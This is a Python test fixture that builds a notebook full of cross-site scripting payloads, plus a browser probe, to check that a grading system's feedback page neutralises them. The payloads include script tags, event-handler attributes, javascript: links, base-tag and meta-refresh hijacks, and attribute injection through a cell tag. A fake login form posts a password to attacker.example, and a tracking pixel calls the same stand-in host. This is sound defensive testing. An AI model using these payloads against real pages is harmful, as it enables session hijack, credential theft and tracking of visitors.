"""A learner whose notebook tries to run code in the browser of whoever opens its
feedback page, and the probe that tells which of its payloads ran.

Each payload, if it runs, leaves a mark the probe reads: it pushes its name onto
``window.ranList`` of the page (a frame reaches the page through ``top``), or it leaves
an element or a state that acts without a script (a frame, a form, a ``<base>``, a
refresh, a stylesheet). The notebook is chapter 1's right answers with payloads in
every place a learner writes that the page shows: markdown and raw cells, the outputs
their code displays while it is graded, an error, a stream and cell metadata; and with
the learner's own work, which the page must still show: text, code, outputs, and
images pasted into a markdown cell (cell attachments).
Used by tests/grading/test_feedback_page_inert.py.
"""

from __future__ import annotations

import base64
import struct
import zlib

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

# The name of every payload that marks itself, in the order written.
_MARKED: list[str] = []


def ran(name: str) -> str:
    """JavaScript that marks ``name`` as run, in the page or in a frame of it (no
    quotes: it goes into HTML attributes, Python strings and TeX alike)."""
    _MARKED.append(name)
    mark = name.replace("_", "-")  # TeX reads "_" as a subscript
    return f"(top.ranList=top.ranList||[]).push(/{mark}/.source)"


# The host a payload would send the learner's visitor to; the browser resolves none.
AWAY = "https://attacker.example"

# Markdown cells, as a learner types them: name -> source.
MARKDOWN = {
    "md_script": f"Notes <script>{ran('md_script')}</script>",
    "md_img_onerror": f'<img src="nope.png" onerror="{ran("md_img_onerror")}">',
    "md_svg_onload": f'<svg onload="{ran("md_svg_onload")}"><circle r="4"/></svg>',
    "md_svg_script": f"<svg><script>{ran('md_svg_script')}</script></svg>",
    "md_iframe_srcdoc": (
        f'<iframe srcdoc="<script>{ran("md_iframe_srcdoc")}</script>"></iframe>'
    ),
    # A plug-in's page has an origin of its own and cannot mark (and an alert would
    # stop the browser's driver): the probe counts plug-ins instead.
    "md_object": '<object data="data:text/html,<b>a page of mine</b>"></object>',
    "md_embed": '<embed src="data:image/svg+xml,<svg></svg>">',
    "md_meta_refresh": '<meta http-equiv="refresh" content="0;url=#md_meta_refresh">',
    "md_base": f'<base href="{AWAY}/">',
    "md_form": (
        f'<form action="{AWAY}/steal"><input name="password">'
        "<button>Log in again</button></form>"
    ),
    "md_style_import": (
        f'<style>@import url("{AWAY}/x.css"); body {{ --md-style-import: 1; }}</style>'
    ),
    "md_js_link": f"[see my notes](javascript:{ran('md_js_link')})",
    # No browser runs an image's javascript: source: the probe reads the source.
    "md_js_image": "![my js plot](javascript:void(0))",
    "md_html_js_link": f'<a href="javascript:{ran("md_html_js_link")}">notes</a>',
    "md_mouseover": f'<p onmouseover="{ran("md_mouseover")}">hover me</p>',
    "md_details_ontoggle": (
        f'<details open ontoggle="{ran("md_details_ontoggle")}"><summary>s</summary>'
        "</details>"
    ),
    "md_math_href": f"Maths: $\\href{{javascript:{ran('md_math_href')}}}{{x^2}}$",
    "md_data_link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
    # No script, but a request that tells the attacker who opened the page, and when.
    "md_remote_img": f"![tracker]({AWAY}/pixel.png)",
}

# Raw cells: (name, raw_mimetype or None, source).
RAW = [
    ("raw_html", "text/html", f"<script>{ran('raw_html')}</script>"),
    ("raw_plain", None, f'<img src="nope.png" onerror="{ran("raw_plain")}">'),
]

# A cell tag, which nbconvert writes into the cell's class attribute.
CELL_TAG = f'x" onmouseover="{ran("cell_tag")}'

SVG_PAYLOAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" '
    f'onload="{ran("out_svg_onload")}"><script>{ran("out_svg_script")}</script>'
    '<rect width="40" height="20" fill="teal"/></svg>'
)

# Code cells whose outputs, made while the notebook is graded, carry payloads.
OUTPUT_CELLS = {
    "out_html": f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
display(HTML("<b>my table</b><script>{ran("out_html")}</script>"
             '<img src="nope.png" onerror="{ran("out_html_img")}">'))
""",
    "out_html_isolated": f"""
display(HTML("<script>{ran("out_html_isolated")}</script>"),
        metadata={{"text/html": {{"isolated": True}}}})
""",
    "out_javascript": f'display(Javascript("{ran("out_javascript")}"))',
    "out_svg": f"display(SVG({SVG_PAYLOAD!r}))",
    "out_markdown": f"""
display(Markdown("**my markdown output** <script>{ran("out_markdown")}</script>"
                 '<img src="nope.png" onerror="{ran("out_markdown_img")}">'))
""",
    # Not a script: an attachment no cell has stopped nbconvert, and with it the page.
    "out_markdown_attachment": (
        "display(Markdown('![their plot](attachment:nope.png)'))"
    ),
    "out_latex": f"display(Latex(r'$\\href{{javascript:{ran('out_latex')}}}{{y}}$'))",
    "out_widget": """
import ipywidgets
display(ipywidgets.IntSlider(value=3, description="my slider"))
""",
    "out_widget_view": f"""
display({{"application/vnd.jupyter.widget-view+json": {{
    "model_id": "</script><script>{ran("out_widget_view")}</script>",
    "version_major": 2, "version_minor": 0}},
    "text/plain": "my widget"}}, raw=True)
""",
    "out_stream": f"print('my printout <script>{ran('out_stream')}</script>')",
    "out_error": f"""
raise ValueError('my error <img src="nope.png" onerror="{ran("out_error")}">')
""",
}

# Text of the learner's that the page must show, as text.
SHOWN = [
    "Notes <script>",  # a markdown cell's markup, escaped
    "my table",
    "my markdown output",
    "my printout <script>",
    "my error <img",
    "My pasted plot:",
    "I reshape, then swap the axes",  # a comment in their code
    "IntSlider(value=3, description='my slider')",  # a widget, as its text
    "my widget",  # a widget view with no model: its text
]


def png(width: int, height: int) -> bytes:
    """A PNG of ``width`` x ``height`` teal pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + b"\x00\x80\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


# Images pasted into a markdown cell (JupyterLab keeps them as the cell's attachments)
# and their sizes, which the probe reads back from the page. The second is named
# percent-encoded in the text, as a file dropped with a space in its name; the third
# name is text copied from another cell, without the image.
PASTED = {"pasted.png": (7, 5), "my plot.png": (3, 9)}
PASTED_CELL = """My pasted plot:

![my plot](attachment:pasted.png)

![my other plot](attachment:my%20plot.png)

![copied](attachment:image-2.png)
"""


def attack_notebook(student_nb, answers: dict[str, str]) -> nbformat.NotebookNode:
    """``student_nb`` with ``answers`` (grade_id -> code) in its answer cells and the
    payloads after its introduction; the code cells that display payloads go at the
    end, so grading is unchanged."""
    nb = nbformat.from_dict(nbformat.reads(nbformat.writes(student_nb), 4))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    added = [new_markdown_cell(source) for source in MARKDOWN.values()]
    for name, mimetype, source in RAW:
        cell = new_raw_cell(source)
        if mimetype:
            cell.metadata["raw_mimetype"] = mimetype
        added.append(cell)
    pasted = new_markdown_cell(PASTED_CELL)
    pasted.attachments = {
        name: {"image/png": base64.b64encode(png(*size)).decode("ascii")}
        for name, size in PASTED.items()
    }
    added.append(pasted)
    tagged = new_markdown_cell("Tagged cell")
    tagged.metadata["tags"] = [CELL_TAG]
    added.append(tagged)
    nb.cells[1:1] = added
    nb.cells += [new_code_cell(source) for source in OUTPUT_CELLS.values()]
    return nb


# The payloads the probe must find not run, by name. Two more mark themselves where no
# browser would show it: nbconvert's script for a JavaScript output calls jQuery first,
# which no offline page has, and a widget view whose model is not in the notebook is
# shown as its text. The probe checks them by what they would leave: a script of the
# learner's in the page, the widget's markup.
UNSEEN = {"out_javascript", "out_widget_view"}
PAYLOADS = tuple(name for name in dict.fromkeys(_MARKED) if name not in UNSEEN)

# Run in the page once it has loaded: clicks what a visitor could click that would run
# a script (a javascript: link, in the text or in typeset maths), then reports.
CLICK = r"""
const hrefOf = a => a.getAttribute('href') || a.getAttribute('xlink:href') || '';
const live = [...document.querySelectorAll('a')]
  .filter(a => /^\s*(javascript|data|vbscript):/i.test(hrefOf(a)));
for (const a of live) {
  a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
}
for (const e of document.querySelectorAll('[onmouseover]')) {
  e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
}
return live.map(hrefOf);
"""

PROBE = r"""
const scripts = [...document.scripts];
const handlers = [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
  .filter(a => /^on/i.test(a.name)).map(a => e.tagName + ' ' + a.name));
return {
  ran: (window.ranList || []).map(n => n.replace(/-/g, '_')),
  hash: location.hash,
  url: location.href,
  base: document.baseURI,
  handlers: handlers,
  scripts: scripts.length,
  frames: document.querySelectorAll('iframe, frame, object, embed').length,
  forms: document.forms.length,
  bases: document.querySelectorAll('base').length,
  metas: document.querySelectorAll('meta[http-equiv]').length,
  style_import: getComputedStyle(document.body).getPropertyValue('--md-style-import'),
  text: document.body.innerText,
  // alt -> [scheme and type of its source, its size as drawn from that source]
  images: Object.fromEntries([...document.images].filter(i => i.alt).map(i =>
    [i.alt, [i.src.slice(0, 15), i.naturalWidth, i.naturalHeight]])),
  svgs: [...document.querySelectorAll('.output_svg img')].map(i => i.naturalWidth),
  maths: document.querySelectorAll('mjx-container[jax="SVG"]').length,
  // MathJax's SVG output marks a TeX error so (mjx-merror is its HTML output's)
  math_errors: document.querySelectorAll('[data-mml-node="merror"]').length,
};
"""
